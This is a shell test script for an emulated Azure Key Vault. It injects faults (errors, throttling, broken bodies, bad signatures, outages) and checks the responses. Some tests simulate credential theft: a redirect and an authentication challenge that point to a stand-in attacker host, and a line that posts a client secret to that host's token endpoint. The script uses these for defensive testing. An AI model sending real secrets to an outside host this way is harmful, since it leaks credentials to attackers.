#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# The emulator does what a test asks of it: each fault of a vault, its limits, an outage.
. "${top_srcdir:?}/tests/lib/harness.sh"
. "$top_srcdir/tests/azure/azure.sh"
needs python3

hash=ltYuKr0-Qt5fUDMPuO_ExVmYNSeAd7IemqCzPB3wehw
sign="{\"alg\":\"PS256\",\"value\":\"$hash\"}"

verify() { # SIGNATURE: with the key's own public part
    ask POST /keys/k1/verify "{\"alg\":\"PS256\",\"digest\":\"$hash\",\"value\":\"$1\"}"
}

# ---- a vault ----

start_emulator vault
setup ask POST /keys/k1/create '{"kty":"RSA"}'
setup ask POST /keys/e1/create '{"kty":"EC-HSM","crv":"P-256"}'

# without a token
accepts plain "$VAULT/keys?api-version=7.4"
status_is 401
header WWW-Authenticate "authorization=\"$AUTHORITY/$TENANT\", resource=\"$RESOURCE\""
says AKV10000
accepts plain -H 'Authorization: Bearer nonsense' "$VAULT/keys?api-version=7.4"
status_is 401
others_refuse ask GET '/keys?api-version='
accepts ask GET '/keys?api%2Dversion=7.4'

# errors instead of an answer; "after" lets requests pass first, and the count ends it
for row in 403-access:403:AccessDenied 403-policy:403:ForbiddenByPolicy 403-rbac:403:ForbiddenByRbac 403-firewall:403:ForbiddenByFirewall \
    403-disabled:403:KeyDisabled 403-expired:403:KeyExpired 429:429:Throttled 400:400:BadParameter 404:404:KeyNotFound 408:408:Timeout 409:409:ObjectIsBeingDeleted \
    500:500:Error 502:502:Bad 503:503:Service 504:504:Timeout; do
    fault=${row%%:*} rest=${row#*:}
    setup emulator fault "$fault" 1 after=1
    accepts ask POST /keys/k1/sign "$sign"
    others_refuse ask POST /keys/k1/sign "$sign"
    status_is "${rest%:*}"
    says "${rest#*:}"
    if grep -qi '^retry-after' "$tmp/.headers"; then fail "Retry-After"; fi
    accepts ask POST /keys/k1/sign "$sign"
done
setup emulator fault 429-retry-after 2 7
others_refuse ask GET /keys/k1
status_is 429
header Retry-After 7
accepts emulator stats
value .throttled 2
accepts emulator clear
accepts ask GET /keys/k1

# challenges
setup emulator fault expired-token
others_refuse ask GET /keys/k1
status_is 401
header WWW-Authenticate invalid_token
setup emulator fault claims
others_refuse ask GET /keys/k1
header WWW-Authenticate 'error="insufficient_claims", claims="'
setup emulator fault foreign-resource 1 https://vault.example.net
accepts plain "$VAULT/keys?api-version=7.4"
header WWW-Authenticate 'resource="https://vault.example.net"'
setup emulator fault attacker-authority
accepts plain "$VAULT/keys?api-version=7.4"
header WWW-Authenticate "authorization=\"$ATTACKER/$TENANT\""
setup emulator fault other-tenant
accepts plain "$VAULT/keys?api-version=7.4"
header WWW-Authenticate "$AUTHORITY/99999999-9999"
setup emulator fault no-challenge
others_refuse ask GET /keys/k1
status_is 401
if grep -qi '^www-authenticate' "$tmp/.headers"; then fail "a challenge"; fi
setup emulator revoke
others_refuse ask GET /keys/k1
status_is 401
setup new_token
accepts ask GET /keys/k1

# what an attacker is sent is seen
accepts emulator attacker-log
value length 0
setup plain -d 'client_secret=stolen' "$ATTACKER/$TENANT/oauth2/v2.0/token"
accepts emulator attacker-log
value '.[0].body' client_secret=stolen

# bodies
setup emulator fault empty-body
accepts ask POST /keys/k1/sign "$sign"
[ ! -s "$out" ] || fail "a body"
setup emulator fault html-body 1 503
others_refuse ask POST /keys/k1/sign "$sign"
status_is 503
says '<html>'
setup emulator fault not-json
accepts ask POST /keys/k1/sign "$sign"
others_refuse jq . "$tmp/.body"
setup emulator fault cut-body
hangs_up ask POST /keys/k1/sign "$sign"
setup emulator fault slow-body 1 20
hangs_up ask POST /keys/k1/sign "$sign" --max-time 1
setup emulator fault slow-body 1 1
accepts ask POST /keys/k1/sign "$sign"
setup emulator fault endless-body
hangs_up ask POST /keys/k1/sign "$sign" --max-filesize 1000000
says 'Maximum file size exceeded'
setup emulator fault stall 1 60000
hangs_up ask POST /keys/k1/sign "$sign" --max-time 1
setup emulator fault reset
hangs_up ask POST /keys/k1/sign "$sign"
setup emulator fault reset-headers
hangs_up ask POST /keys/k1/sign "$sign"
setup emulator fault redirect-http
accepts ask POST /keys/k1/sign "$sign"
status_is 302
header Location "http://${VAULT#https://}/keys/k1/sign"
setup emulator fault redirect-host
accepts ask POST /keys/k1/sign "$sign"
header Location "$ATTACKER/keys/k1/sign"

# signatures: a good one, and others
accepts ask POST /keys/k1/sign "$sign"
kid=$(jq -r .kid <"$out")
accepts verify "$(jq -r .value <"$out")"
value .value true
setup emulator fault wrong-kid
accepts ask GET /keys/k1
value .key.kid "$kid"
accepts ask POST /keys/k1/sign "$sign"
[ "$(jq -r .kid <"$out")" != "$kid" ] || fail "the right kid"
setup emulator fault signature-other
accepts ask POST /keys/k1/sign "$sign"
value '.value | length' 342
accepts verify "$(jq -r .value <"$out")"
value .value false
setup emulator fault signature-short
accepts ask POST /keys/k1/sign "$sign"
value '.value | length' 171
setup emulator fault signature-long
accepts ask POST /keys/k1/sign "$sign"
value '.value | length' 343
setup emulator fault signature-twice
accepts ask POST /keys/e1/sign "{\"alg\":\"ES256\",\"value\":\"$hash\"}"
python3 -c 'import base64,json,sys; s=base64.urlsafe_b64decode(json.load(sys.stdin)["value"]+"=="); sys.exit(len(s)!=64 or s[:32]!=s[32:])' <"$out" || fail "not r||r"

# a fault of one operation leaves the others alone
setup emulator fault 500 '*' only=sign
accepts ask GET /keys/k1
others_refuse ask POST /keys/k1/sign "$sign"
accepts emulator faults
value '.[0].left' -1
setup emulator clear 500
accepts ask POST /keys/k1/sign "$sign"
others_refuse emulator fault no-such-fault
others_refuse emulator no-such-command

# attributes
setup ask POST /keys/old/create '{"kty":"RSA","attributes":{"exp":1000000000}}'
others_refuse ask POST /keys/old/sign "$sign"
status_is 403
says KeyExpired
accepts ask POST /keys/k1/encrypt '{"alg":"RSA-OAEP","value":"YWJj"}'
accepts ask POST /keys/k1/decrypt "{\"alg\":\"RSA-OAEP\",\"value\":\"$(jq -r .value <"$out")\"}"
value .value YWJj
others_refuse ask POST /keys/old/encrypt '{"alg":"RSA-OAEP","value":"YWJj"}'
others_refuse ask POST /keys/old/decrypt "{\"alg\":\"RSA-OAEP\",\"value\":\"$hash\"}"
status_is 400
says 'Unable to decrypt specified value with this key.'
setup ask POST /keys/future/create '{"kty":"RSA","attributes":{"nbf":4000000000}}'
others_refuse ask POST /keys/future/sign "$sign"
says KeyNotYetValid
setup ask POST /keys/opener/create '{"kty":"RSA","key_ops":["decrypt"]}'
others_refuse ask POST /keys/opener/sign "$sign"
says KeyOperationForbidden
setup ask POST /keys/off/create '{"kty":"RSA","attributes":{"enabled":false}}'
others_refuse ask POST /keys/off/sign "$sign"
says KeyDisabled
others_refuse ask POST /keys/k1/sign "{\"alg\":\"PS384\",\"value\":\"$hash\"}"
status_is 400

# a name in soft delete is taken; purge protection
setup emulator set delay 3000
setup ask DELETE /keys/off
others_refuse ask GET /deletedkeys/off
others_refuse ask POST /keys/off/create '{"kty":"RSA"}'
status_is 409
says ObjectIsBeingDeleted
others_refuse ask DELETE /deletedkeys/off
status_is 409
sleep 3.2
others_refuse ask POST /keys/off/create '{"kty":"RSA"}'
says ObjectIsDeletedButRecoverable
setup emulator set purge-protection on
others_refuse ask DELETE /deletedkeys/off
status_is 403
accepts ask GET /keys/k1
value .attributes.recoveryLevel Recoverable
setup emulator set purge-protection off
setup emulator set delay 50

# rotated behind somebody's back: the name signs with another key, the version with its own
setup emulator rotate k1
accepts ask POST /keys/k1/sign "$sign"
[ "$(jq -r .kid <"$out")" != "$kid" ] || fail "the old version"
accepts ask POST "/keys/k1/${kid##*/}/sign" "$sign"
value .kid "$kid"

# latency, and how many at once
setup emulator latency 200 200
begun=$(date +%s%N)
accepts ask GET /keys/k1
[ $((($(date +%s%N) - begun) / 1000000)) -ge 200 ] || fail "no latency"
setup emulator stats reset
for i in 1 2 3 4; do
    ask GET /keys/k1 >/dev/null &
    eval "pid$i=\$!"
done
wait "$pid1" "$pid2" "$pid3" "$pid4"
setup emulator latency 0 0
accepts emulator stats
value '.most_running > 1' true
value .operations.get 4
value .requests 4
value .handshakes 4

# Key Vault's bucket: 8 of 2048 bits count as one of 4096
setup ask POST /keys/big/create '{"kty":"RSA","key_size":4096}'
setup emulator capacity on 2000 10 10 20
accepts ask POST /keys/big/sign "$sign"
accepts ask POST /keys/k1/sign "$sign"
accepts ask POST /keys/k1/sign "$sign"
others_refuse ask POST /keys/k1/sign "$sign"
status_is 429
says VaultRequestTypeLimitReached
others_refuse ask POST /keys/e1/sign "{\"alg\":\"ES256\",\"value\":\"$hash\"}" # it is one sum over all kinds
setup emulator capacity off
accepts ask POST /keys/k1/sign "$sign"

# the log
setup ask GET /keys/k1 '' -H 'x-ms-client-request-id: 5f0e7c9b-0000-4000-8000-000000000001' -A signengine/9.9
header x-ms-client-request-id 5f0e7c9b-0000-4000-8000-000000000001
accepts emulator log
value '.[-1] | .method + " " + .path + " " + (.status | tostring) + " " + .id + " " + .agent' \
    'GET /keys/k1 200 5f0e7c9b-0000-4000-8000-000000000001 signengine/9.9'

# an outage: refused, then there again with its keys
setup emulator pause 800
hangs_up ask GET /keys/k1 '' --retry 0
sleep 1.2
accepts ask POST "/keys/k1/${kid##*/}/sign" "$sign"
value .kid "$kid"
